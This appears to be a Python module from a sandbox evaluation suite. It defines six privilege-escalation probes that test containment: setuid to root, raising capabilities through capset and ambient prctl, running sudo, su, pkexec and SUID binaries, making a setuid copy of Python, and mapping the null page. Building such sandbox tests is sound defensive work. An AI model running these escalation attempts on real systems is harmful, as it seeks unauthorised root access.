"""Becoming somebody."""

from evaluation.sandbox.attacks.model import Attack, AttackClass
from evaluation.sandbox.attacks.snippets import SYSCALL

CLASS = AttackClass(
    name="privileges",
    aim="Become another user or gain a capability",
    weakening="kept capabilities",
    attacks=(
        Attack(
            name="set_the_user",
            kind="run",
            code=r"""
import os
def f(facts):
    said = []
    for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
                   lambda: os.seteuid(0), lambda: os.setgroups([0])):
        try:
            change()
        except OSError as error:
            said.append(error.strerror)
    if 0 in (os.getuid(), os.geteuid(), os.getgid()):
        return "ESCAPED is root"
    return f"refused: {said}"
""",
        ),
        Attack(
            name="look_for_capabilities",
            kind="run",
            code=SYSCALL
            + r"""
import struct
def f(facts):
    header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    data = ctypes.create_string_buffer(24)
    call(125, header, data)
    words = struct.unpack("6I", data.raw[:24])
    bounding = [n for n in range(41) if _libc.prctl(23, n, 0, 0, 0) == 1]
    if words[0] or words[1] or words[3] or words[4]:
        return f"ESCAPED holds {words[0]:#x} {words[3]:#x}"
    return f"none; bounding set {bounding}"
""",
        ),
        Attack(
            name="run_a_program_of_root",
            kind="run",
            code=r"""
import os, stat, subprocess
def f(facts):
    found = []
    for top in ("/bin", "/sbin", "/usr", "/lib", "/opt"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    mode = os.lstat(path).st_mode
                except OSError:
                    continue
                if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(path)
    for program in ["sudo", "su", "pkexec", *found]:
        try:
            said = subprocess.run([program, "-n", "id", "-u"], capture_output=True, timeout=3)
            if said.stdout.strip() == b"0":
                return f"ESCAPED {program} runs as root"
        except (OSError, subprocess.TimeoutExpired):
            pass
    return f"none of {found}"
""",
        ),
        Attack(
            name="make_a_program_of_root",
            kind="run",
            code=r"""
import os, shutil, subprocess, sys
def f(facts):
    shutil.copy(sys.executable or "/opt/python/bin/python3", "/tmp/py")
    said = []
    try:
        os.chown("/tmp/py", 0, 0)
        os.chmod("/tmp/py", 0o6755)
        env = {"LD_LIBRARY_PATH": os.environ.get("LD_LIBRARY_PATH", "")}
        out = subprocess.run(["/tmp/py", "-I", "-S", "-c", "import os; print(os.geteuid())"],
                             capture_output=True, timeout=5, env=env)
        if out.stdout.strip() == b"0":
            return "ESCAPED runs as root"
        said.append(out.stderr[-80:].decode())
    except OSError as error:
        said.append(str(error))
    return f"refused: {said}"
""",
        ),
        Attack(
            name="raise_capabilities",
            kind="run",
            code=SYSCALL
            + r"""
import struct
def f(facts):
    header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    for bits in (0xFFFFFFFF, 1 << 21, 1 << 12, 1 << 19):
        data = ctypes.create_string_buffer(struct.pack("6I", bits, bits, bits, 0, 0, 0))
        if call(126, header, data) == 0:
            return f"ESCAPED capset {bits:#x}"
    said = why()
    if any(_libc.prctl(47, 2, n, 0, 0) == 0 for n in range(41)):  # raise an ambient one
        return "ESCAPED an ambient capability"
    return f"refused: {said}, {why()}"
""",
        ),
        Attack(
            name="map_the_null_page",
            kind="run",
            code=SYSCALL
            + r"""
def f(facts):
    # What turns a null pointer of the kernel into code of the attacker.
    call(135, 0x0100000 | 0x0400000)  # personality: MMAP_PAGE_ZERO, READ_IMPLIES_EXEC
    _libc.mmap.restype = ctypes.c_void_p
    if _libc.mmap(ctypes.c_void_p(0), 4096, 7, 0x32, -1, 0) in (None, 0):
        return "ESCAPED mapped it"
    return "refused: " + why()
""",
        ),
    ),
)
